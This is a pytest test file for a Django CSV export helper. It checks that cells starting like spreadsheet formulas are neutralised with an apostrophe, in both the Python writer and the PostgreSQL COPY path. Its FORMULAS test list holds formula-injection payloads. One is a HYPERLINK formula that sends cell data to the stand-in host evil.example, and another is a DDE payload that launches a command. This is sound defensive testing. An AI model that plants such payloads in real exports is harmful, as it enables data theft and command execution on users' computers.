"""The one CSV writer (apps.core.tabular): text that would start a spreadsheet formula is written
with an apostrophe in front, numbers stay numbers, and the COPY path applies the same rule in SQL."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from django.db import connection
from django.utils.translation import gettext_lazy

from apps.core import tabular

FORMULAS = [
    '=HYPERLINK("http://evil.example/?l="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A3)",
    "\t=1+1",
    "\tplain after a tab",
    "\r=1+1",
    "\rplain after a carriage return",
    " =1+1",
    "   +1",
    "\n=1+1",
    "\r\n-1",
    " \t@A1",
    "-5",  # text that looks like a number is still text: only numeric values are data
    "=",
]
PLAIN = [
    "",
    "hello",
    "1-2",
    "a=b",
    "e-mail@example.org",
    " plain with a leading space",
    "\nplain after a line break",
    "'=already neutralised",
    "'-5",
    '"=1+1"',  # a double quote first: csv quotes the cell and a spreadsheet shows the quotes as text
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe_in_front(text):
    assert tabular.safe_text(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN)
def test_text_that_is_no_formula_is_left_as_it_is(text):
    assert tabular.safe_text(text) == text


@pytest.mark.parametrize("text", FORMULAS + PLAIN)
def test_neutralising_twice_changes_nothing_more(text):
    once = tabular.safe_text(text)
    assert tabular.safe_text(once) == once


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (None, ""),
        (-5, -5),
        (-1.5, -1.5),
        (Decimal("-2.50"), Decimal("-2.50")),
        (0, 0),
        (True, True),
        (date(2026, 3, 1), "2026-03-01"),
        (datetime(2026, 3, 1, 9, 30, tzinfo=UTC), "2026-03-01T09:30:00+00:00"),
        ({"name": ["", "=1+1"]}, '{"name": ["", "=1+1"]}'),
        (["=1"], '["=1"]'),
        (gettext_lazy("=lazy"), "'=lazy"),
        ("=text", "'=text"),
    ],
)
def test_cell_neutralises_text_and_keeps_numbers_dates_and_json(value, written):
    assert tabular.cell(value) == written


def test_a_value_of_another_type_is_its_text_made_safe():
    class Labelled:
        def __str__(self):
            return "@label"

    assert tabular.cell(Labelled()) == "'@label"


def test_the_writer_writes_safe_cells_to_a_file():
    out = io.StringIO(newline="")
    writer = tabular.writer(out)
    writer.writerow(["name", "amount", "note"])
    writer.writerows([["=1+1", -5, None], ["Anna", Decimal("3.10"), "-5"]])
    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [
        ["name", "amount", "note"],
        ["'=1+1", "-5", ""],
        ["Anna", "3.10", "'-5"],
    ]


def test_lines_stream_a_bom_then_one_line_per_row():
    chunks = list(tabular.lines([["a", "=b"], ["c", 1]]))
    assert chunks == ["\ufeff", "a,'=b\r\n", "c,1\r\n"]
    assert list(tabular.lines([["x"]], bom=False)) == ["x\r\n"]


def test_a_response_streams_a_named_csv_download():
    response = tabular.response(iter([["h"], ["+1"]]), filename="things.csv")
    assert response["Content-Type"] == "text/csv"
    assert response["Content-Disposition"] == 'attachment; filename="things.csv"'
    assert response["Cache-Control"] == "no-store"
    assert b"".join(response.streaming_content).decode() == "\ufeffh\r\n'+1\r\n"


# --- the COPY path ---------------------------------------------------------------------------------


def _copied(statement: str) -> list[list[str]]:
    out = io.StringIO()
    tabular.copy_csv(statement, out)
    return list(csv.reader(io.StringIO(out.getvalue(), newline="")))


def _literal(value: str) -> str:
    with connection.cursor() as cursor:
        return cursor.mogrify("%s", [value]).decode()


@pytest.mark.django_db
def test_postgresql_neutralises_exactly_what_python_does():
    samples = FORMULAS + PLAIN
    rows = " UNION ALL ".join(f"SELECT {n} AS n, {_literal(text)}::text AS t" for n, text in enumerate(samples))
    copied = _copied(f"SELECT t FROM ({rows}) s ORDER BY n")  # noqa: S608
    assert copied == [["t"]] + [[tabular.safe_text(text)] for text in samples]


@pytest.mark.django_db
def test_copy_neutralises_only_text_columns_and_keeps_names_and_order():
    statement = """
        SELECT -5 AS amount, '-5'::varchar(10) AS code, '=1+1'::char(4) AS fixed, 'x'::text AS id,
               NULL::text AS empty, '{"a": "=1"}'::jsonb AS changes, ARRAY['=1'] AS tags,
               -1.5::numeric AS ratio, DATE '2026-03-01' AS day, true AS flag, 7 AS id
    """
    assert _copied(statement) == [
        ["amount", "code", "fixed", "id", "empty", "changes", "tags", "ratio", "day", "flag", "id"],
        ["-5", "'-5", "'=1+1", "x", "", '{"a": "=1"}', "{=1}", "-1.5", "2026-03-01", "t", "7"],
    ]


@pytest.mark.django_db
def test_copy_returns_the_select_that_produced_the_rows():
    out = io.StringIO()
    select = tabular.copy_csv("SELECT '@x'::text AS note", out, header=False)
    assert out.getvalue() == "'@x\n"
    with connection.cursor() as cursor:
        cursor.execute(select)
        assert cursor.fetchall() == [("'@x",)]
